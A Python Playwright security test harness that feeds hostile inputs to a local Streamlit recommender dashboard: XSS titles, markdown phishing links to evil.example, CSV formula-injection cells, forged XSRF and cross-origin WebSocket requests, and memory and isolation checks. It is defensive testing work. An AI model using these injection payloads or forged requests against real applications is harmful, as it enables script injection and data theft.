    )
    wait_state(second, {"finished"}, 120)
    a.context.close()
    second.context.close()
    print("  #270 #271 done", file=sys.stderr, flush=True)

    closer = trainer(b, "MovieLens 100K", 0)
    wait_training(closer)
    wait_state(closer, {"training"}, 180)
    closer.wait_for_timeout(8000)
    closer.context.close()
    closed = time.monotonic()
    waiter = trainer(b, "E-commerce demo", 20)
    wait_training(waiter)
    state, _ = wait_state(waiter, {"training", "finished"}, 300)
    freed = time.monotonic() - closed
    log = b.server.log_path.read_text(errors="replace")
    stopped_line = "stopping a training: its session was closed" in log
    rows.append(
        Row(
            272,
            "close the tab 8 s into a training (ML-100k, budget 0)",
            "Train view",
            "training ends with the session",
            f"another session {'got the slot' if state != 'other' else 'still waited'} {freed:.1f} s after the close; "
            f"server log {'says' if stopped_line else 'does not say'} 'stopping a training: its session was closed'",
            "OK" if state in ("training", "finished") and freed <= SLOT_FREED_S else "DOS",
        )
    )
    if waiter.get_by_role("button", name="Stop").count():
        waiter.get_by_role("button", name="Stop").click()
        wait_state(waiter, {"finished"}, 60)
    waiter.context.close()
    print("  #272 done", file=sys.stderr, flush=True)
    return rows


def injection_rows(b: Browser, work: Path, listener: str) -> list[Row]:
    events, items, users = payload_data(work, listener)
    FetchLog.hits.clear()
    page = b.page("data")
    page.get_by_text("Upload a file", exact=True).click()
    idle(page)
    page.locator("[data-testid='stFileUploaderDropzoneInput']").first.set_input_files(str(events))
    page.get_by_text("Validation report").wait_for()
    idle(page)
    page.locator("[data-testid='stFileUploaderDropzoneInput']").nth(1).set_input_files(str(items))
    idle(page)
    page.wait_for_timeout(1500)
    idle(page)
    goto(page, "Train")
    page.get_by_role("spinbutton", name="Time budget (s)").fill("10")
    page.get_by_role("spinbutton", name="Max. epochs (0 = auto)").fill("2")
    wait_training(page)
    wait_state(page, {"finished"}, 240)
    idle(page)

    def markup_from_data() -> dict[str, int]:
        return page.evaluate(
            """() => {
              const main = document.querySelector('[data-testid="stApp"]');
              const count = s => main.querySelectorAll(s).length;
              return {
                img_x: count('img[src="x"], img[src="y"]'),
                evil_links: count('a[href*="evil.example"]'),
                js_links: count('a[href^="javascript:"]'),
                bold_user: [...main.querySelectorAll('strong, b')]
                  .filter(e => /^(bold_user|cat)$/.test(e.textContent.trim()))
                  .map(e => e.parentElement.outerHTML.slice(0, 160)),
                listener_imgs: count('img[src*="127.0.0.1"]:not([src*="/_stcore"]):not([src*="/media"])'),
                plotly_links: count('.js-plotly-plot a'),
              };
            }"""
        )

    seen: dict[str, dict[str, int]] = {}
    crashes: list[str] = []
    goto(page, "Data")
    seen["Data"] = markup_from_data()
    for uid_key in ("263", "264", "2641", "260"):
        goto(page, "Users")
        box = page.get_by_test_id("stSelectbox").filter(has_text="User (type to search)")
        box.click()
        page.keyboard.type(users[uid_key][:12])
        page.keyboard.press("Enter")
        idle(page)
        page.wait_for_timeout(1500)
        seen[f"Users {uid_key}"] = markup_from_data()
        verdict, said = page_outcome(page)
        if verdict in ("CRASH", "GENERIC"):
            crashes.append(said)
    goto(page, "Model")
    page.wait_for_timeout(3000)
    idle(page)
    seen["Model"] = markup_from_data()
    flags = xss_flags(page)
    total = {k: sum(v[k] for v in seen.values()) for k in next(iter(seen.values())) if k != "bold_user"}
    bold = [(view, html) for view, v in seen.items() for html in v["bold_user"]]
    total["bold_user"] = len(bold)
    rows = []
    bad_260 = flags or b.dialogs or total["img_x"] or total["js_links"]
    rows.append(
        Row(
            260,
            "titles <img onerror>, <script>, javascript: link, </script><script>, <svg onload>; same in category "
            "and event type",
            "Data/Users/Model views",
            "shown as text",
            f"script flags {flags or 'none'}, dialogs {len(b.dialogs)}, img[src=x] {total['img_x']}, "
            f"javascript: links {total['js_links']}" + (f"; {crashes}" if crashes else ""),
            "INJECTION" if bad_260 else ("CRASH" if crashes else "OK"),
        )
    )
    rows.append(
        Row(
            261,
            "same titles in Plotly hovers (heatmap, item map)",
            "Users/Model charts",
            "shown as text",
            f"links inside Plotly charts: {total['plotly_links']}; script flags {flags or 'none'}",
            "INJECTION" if total["plotly_links"] or flags else "OK",
        )
    )
    fetched = [h for h in FetchLog.hits if "user263" in h]
    rows.append(
        Row(
            263,
            f"user id `{users['263'].replace(listener, 'http://127.0.0.1:LISTENER')}`",
            "Users view (suggestion buttons, 'X has N events')",
            "shown as text",
            f"listener GETs: {len(fetched)}; <img> pointing at it in the page: {total['listener_imgs']}",
            "INJECTION" if fetched or total["listener_imgs"] else "OK",
        )
    )
    rows.append(
        Row(
            264,
            "user id `[phish](https://evil.example)`, `**bold_user**`; title with a URL",
            "Users view",
            "shown as text",
            f"links to evil.example: {total['evil_links']}; bold from the data: {bold[:1] or 0}",
            "INJECTION" if total["evil_links"] or total["bold_user"] else "OK",
        )
    )
    # Export: the HTML report (opened in Chromium), the recommendations CSV, the run zip
    goto(page, "Export")
    page.get_by_role("spinbutton", name="Items per user").fill("100")
    page.get_by_role("spinbutton", name="Items per user").press("Tab")
    idle(page)
    with page.expect_download(timeout=180_000) as download:
        page.get_by_role("button", name="Download the HTML report").click()
    report = Path(download.value.path()).read_text()
    viewer = page.context.new_page()
    viewer.set_content(report)
    viewer.wait_for_timeout(2000)
    report_flags = xss_flags(viewer)
    viewer.close()
    rows.append(
        Row(
            262,
            "same titles in the exported HTML report, opened in Chromium",
            "Export: HTML report",
            "escaped, nothing runs",
            f"script flags in the opened report: {report_flags or 'none'}; unescaped payload in it: "
            f"{'<script>window.__xss' in report or '<img src=x' in report}",
            "INJECTION" if report_flags or "<script>window.__xss" in report or "<img src=x" in report else "OK",
        )
    )
    with page.expect_download(timeout=180_000) as download:
        page.get_by_role("button", name="Download recommendations (CSV)").click()
    csv_url = download.value.url
    cells = [cell for line in csv.reader(io.StringIO(Path(download.value.path()).read_text())) for cell in line]
    starting = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    inner = [c for c in cells if re.search(r"[;,]\s*[=+\-@]", c)]
    titles_seen = sum(1 for t in ITEM_TITLES if any(t.strip() in c for c in cells))
    rows.append(
        Row(
            265,
            "titles/ids starting with = + - @ TAB CR",
            "Export: recommendations CSV",
            "neutralised",
            f"{len(starting)} cells start with a formula character (of {len(cells)}; {titles_seen} payload titles "
            f"present)" + (f", e.g. {starting[0]!r}" if starting else ""),
            "INJECTION" if starting else "OK",
        )
    )
    rows.append(
        Row(
            266,
            "title `Name;=1+1`",
            "Export: recommendations CSV",
            "neutralised",
            f"cells with a formula after ';' or ',': {inner[:2] or 'none'}",
            "INJECTION" if inner else "OK",
        )
    )
    with page.expect_download(timeout=180_000) as download:
        page.get_by_role("button", name="Download the run (.zip)").click()
    with zipfile.ZipFile(download.value.path()) as zf:
        names = zf.namelist()
        table = zf.read("items.csv").decode() if "items.csv" in names else ""
    item_cells = [
        cell for line in list(csv.reader(io.StringIO(table)))[1:] for cell in line[1:]
    ]  # the item id column must match the vocabulary
    raw = [c for c in item_cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") or re.search(r"[;,]\s*[=+\-@]", c)]
    rows.append(
        Row(
            267,
            "formula titles in the run zip (items.csv)",
            "Export: run zip (items.csv)",
            "neutralised or warned",
            f"items.csv {'present' if table else 'absent'}; cells left as formulas: {raw[:2] or 'none'}",
            "INJECTION" if raw else "OK",
        )
    )
    status = None
    try:
        status = urllib.request.urlopen(csv_url, timeout=10).status  # no cookie, a different client
    except OSError as error:
        status = getattr(error, "code", str(error))
    media_id = csv_url.rsplit("/", 1)[-1].split(".")[0]
    rows.append(
        Row(
            268,
            "download URL of the recommendations CSV fetched without cookies",
            "Streamlit media endpoint",
            "session-bound",
            f"HTTP {status} without a cookie; id of {len(media_id)} hex digits (unguessable)",
            "OK" if status != 200 or len(media_id) >= 32 else "EXPOSURE",
        )
    )
    page.context.close()
    print("  #260-268 done", file=sys.stderr, flush=True)
    return rows


def isolation_row(b: Browser, work: Path) -> Row:
    pages = {}
    for who in ("alice", "bob"):
        path = write(work / f"{who}_private_log.csv", small_log(seed=len(who)).replace("u", f"{who}_u"))
        page = b.page("data")
        upload_events(page, path)
        pages[who] = page
    seen = []
    for who, page in pages.items():
        other = "bob" if who == "alice" else "alice"
        goto(page, "Train")
        if f"{other}_private_log.csv" in page.get_by_test_id("stSidebar").inner_text():
            seen.append(who)
    for page in pages.values():
        page.context.close()
    return Row(
        269,
        "two contexts, each with its own upload",
        "dashboard sessions",
        "isolated",
        f"sessions that saw the other's data: {seen or 'none'}",
        "EXPOSURE" if seen else "OK",
    )


def memory_rows(b: Browser, work: Path) -> list[Row]:
    rss = b.server.rss
    same = write(work / "log2mb.csv", log_of_size(2, 0))
    page = b.page("data")
    upload_events(page, same)
    first = rss.now_mb()
    for _ in range(9):
        page.locator("[data-testid='stFileUploaderDropzoneInput']").first.set_input_files(str(same))
        page.get_by_text("Validation report").wait_for()
        idle(page)
    flat = rss.now_mb()
    page.context.close()
    rows = [
        Row(
            273,
            "same 2 MB log uploaded 10x in one session",
            "Data view",
            "memory flat",
            f"RSS {first} MB after the first upload, {flat} MB after the tenth",
            "OK" if flat - first < 150 else "RESOURCE",
        )
    ]
    start = rss.now_mb()
    for _ in range(10):
        page = b.page("data")
        upload_events(page, same)
        page.context.close()
    ten = rss.now_mb()
    time.sleep(20)
    later = rss.now_mb()
    rows.append(
        Row(
            274,
            "same log uploaded in 10 new sessions",
            "Data view",
            "memory bounded",
            f"RSS {start} -> {ten} MB after 10 sessions, {later} MB 20 s after they closed",
            "OK" if later - start < 300 else "RESOURCE",
        )
    )
    page = b.page("data")
    levels = []
    for k in range(10):
        path = write(work / f"log2mb_{k}.csv", log_of_size(2, 100 + k))
        if k == 0:
            upload_events(page, path)
        else:
            page.locator("[data-testid='stFileUploaderDropzoneInput']").first.set_input_files(str(path))
            page.get_by_text(f"log2mb_{k}.csv").last.wait_for()
            idle(page)
        levels.append(rss.now_mb())
    page.context.close()
    rows.append(
        Row(
            275,
            "10 different 2 MB logs in one session",
            "Data view",
            "memory bounded",
            f"RSS after each upload: {levels} MB",
            "OK" if levels[-1] - levels[5] < 200 else "RESOURCE",
        )
    )
    print("  #273-275 done", file=sys.stderr, flush=True)
    return rows


def config_rows(server: Server, bomb_row: Row | None) -> list[Row]:
    rows = []
    config = tomllib.loads((server.tree / ".streamlit" / "config.toml").read_text())
    address = config.get("server", {}).get("address")
    listening = subprocess.run(["ss", "-ltnH"], capture_output=True, text=True).stdout
    ours = [line.split()[3] for line in listening.splitlines() if line.split()[3].endswith(f":{server.port}")]
    loopback = bool(ours) and all(a.startswith(("127.", "[::1]")) for a in ours)
    rows.append(
        Row(
            276,
            ".streamlit/config.toml: server.address",
            "config",
            "loopback unless asked",
            f"server.address = {address!r}; `ss -ltn` shows {ours}",
            "OK" if loopback else "EXPOSURE",
        )
    )
    codes = []
    for token in (None, "forged"):
        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
        headers = {"Content-Type": "multipart/form-data; boundary=x"}
        if token:
            headers["X-Xsrftoken"] = token
            headers["Cookie"] = "_streamlit_xsrf=2|00000000|11111111|1"
        connection.request("PUT", "/_stcore/upload_file/abc/def", body=b"--x--\r\n", headers=headers)
        codes.append(connection.getresponse().status)
        connection.close()
    rows.append(
        Row(
            277,
            "XSRF: PUT /_stcore/upload_file without or with a forged token",
            "config",
            "403",
            f"HTTP {codes}",
            "OK" if all(c == 403 for c in codes) else "EXPOSURE",
        )
    )
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    connection.request(
        "GET",
        "/_stcore/stream",
        headers={
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
            "Origin": "http://evil.example",
        },
    )
    ws = connection.getresponse().status
    connection.close()
    rows.append(
        Row(
            278,
            "WebSocket /_stcore/stream with Origin: http://evil.example",
            "config",
            "refused",
            f"HTTP {ws}",
            "OK" if ws in (403, 400) else "EXPOSURE",
        )
    )
    if bomb_row is not None:
        rows.append(
            Row(
                279,
                f"maxUploadSize {config.get('server', {}).get('maxUploadSize')} MB vs. decompressed size "
                "(5 MB gzip of 2 GiB CSV rows)",
                "config + ltsi/sources.py",
                "a limit after decompression",
                bomb_row.observed,
                "RESOURCE" if bomb_row.verdict == "RESOURCE" else bomb_row.verdict,
            )
        )
    wanted = {
        ("server", "fileWatcherType"): "none",
        ("server", "runOnSave"): False,
        ("browser", "gatherUsageStats"): False,
        ("server", "enableXsrfProtection"): True,
    }
    wrong = [f"{a}.{b}={config.get(a, {}).get(b)!r}" for (a, b), v in wanted.items() if config.get(a, {}).get(b) != v]
    details = config.get("client", {}).get("showErrorDetails")
    if details not in ("type", "none", False):
        wrong.append(f"client.showErrorDetails={details!r}")
    rows.append(
        Row(
            280,
            "fileWatcherType, runOnSave, gatherUsageStats, enableXsrfProtection, showErrorDetails",
            "config",
            "safe defaults",
            f"not safe: {wrong}" if wrong else "as expected ('type' error details)",
            "EXPOSURE" if wrong else "OK",
        )
    )
    return rows


# ---------------------------------------------------------------- main


def table(rows: list[Row]) -> str:
    lines = ["| # | input | where | expected | observed | verdict |", "|---|---|---|---|---|---|"]
    for r in sorted(rows, key=lambda r: r.number):
        lines.append(
            f"| {r.number} | {one_line(r.what, 120)} | {r.where} | {r.expected} | {one_line(r.observed, 260)} "
            f"| **{r.verdict}** |"
        )
    counts: dict[str, int] = {}
    for r in rows:
        counts[r.verdict] = counts.get(r.verdict, 0) + 1
    lines.append("")
    lines.append(
        "counts: "
        + ", ".join(f"{k} {v}" for k, v in sorted(counts.items(), key=lambda kv: -kv[1]))
        + f" (total {len(rows)})"
    )
    return "\n".join(lines) + "\n"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("tree", nargs="?", default=str(HERE.parent), help="the checkout to serve")
    parser.add_argument("--out", help="write the Markdown table here (default: stdout)")
    parser.add_argument("--skip-slow", action="store_true", help="leave out the training rows 270-272")
    parser.add_argument("--only", default="", help="comma-separated groups: data,zips,views,xss,train,memory,config")
    args = parser.parse_args()
    tree = Path(args.tree).resolve()
    groups = set(filter(None, args.only.split(","))) or {"data", "zips", "views", "xss", "train", "memory", "config"}
    work = Path(tempfile.mkdtemp(prefix="hostile-dashboard-"))
    token = f"pwn{os.getpid()}"
    listener_port = free_port()
    listener = http.server.ThreadingHTTPServer(("127.0.0.1", listener_port), FetchLog)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    server = browser = None
    rows: list[Row] = []
    try:
        t0 = time.monotonic()
        syn = cli(
            tree,
            "synth",
            "--users",
            "60",
            "--items",
            "80",
            "--categories",
            "4",
            "--mean-events",
            "12",
            "--out",
            work / "syn",
        )
        assert syn.returncode == 0, syn.stderr
        base = work / "run"
        trained = cli(
            tree, "train", work / "syn" / "events.csv", "--out", base, "--epochs", "1", "--dim", "8", "--quiet"
        )
        assert trained.returncode == 0, trained.stderr
        one_item = cli_run(
            tree,
            work,
            "one_item",
            "user_id,item_id,timestamp\n"
            + "".join(f"u{u},only,{1_700_000_000 + 60 * (10 * u + k)}\n" for u in range(8) for k in range(6)),
        )
        one_user = cli_run(
            tree,
            work,
            "one_user",
            "user_id,item_id,timestamp\n" + "".join(f"solo,i{k % 9},{1_700_000_000 + 60 * k}\n" for k in range(80)),
        )
        inputs = data_inputs(work, token)
        zips = run_zip_inputs(work, base, token, one_item, one_user) if groups & {"zips", "views"} else {}
        print(f"inputs ready in {time.monotonic() - t0:.0f} s under {work}", file=sys.stderr, flush=True)
        server = Server(tree, work)
        browser = Browser(server)
        bomb_row = None
        if "data" in groups:
            rows += data_rows(browser, {n: p for n, p in inputs.items() if n != 279}, work, token)
        if "config" in groups:
            bomb_row = data_rows(browser, {279: inputs[279]}, work, token)[0]
        if "zips" in groups:
            rows += run_zip_rows(browser, zips, work, token)
        if "views" in groups:
            rows += loaded_run_rows(browser, zips)
        if "xss" in groups:
            rows += injection_rows(browser, work, f"http://127.0.0.1:{listener_port}")
            rows.append(isolation_row(browser, work))
        if "train" in groups and not args.skip_slow:
            rows += training_rows(browser)
        if "memory" in groups:
            rows += memory_rows(browser, work)
        if "config" in groups:
            rows += config_rows(server, bomb_row)
        print(f"done in {time.monotonic() - t0:.0f} s", file=sys.stderr)
    finally:
        if browser is not None:
            browser.close()
        if server is not None:
            server.stop()
        listener.shutdown()
        for leftover in outside_files(token, [Path(tempfile.gettempdir())]):
            Path(leftover).unlink(missing_ok=True)
        shutil.rmtree(work, ignore_errors=True)
        out = table(rows)
        if args.out:
            Path(args.out).write_text(out)
        print(out)


if __name__ == "__main__":
    main()
